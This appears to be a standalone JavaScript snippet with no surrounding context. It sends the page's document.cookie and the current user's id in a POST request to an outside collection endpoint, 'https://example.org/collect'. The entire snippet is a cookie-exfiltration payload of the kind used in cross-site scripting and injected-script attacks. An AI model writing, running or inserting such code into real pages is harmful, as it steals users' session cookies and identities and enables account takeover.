fetch('https://example.org/collect', {
  method: 'POST',
  body: JSON.stringify({ user: APP.constant('user').id, cookie: document.cookie }),
});
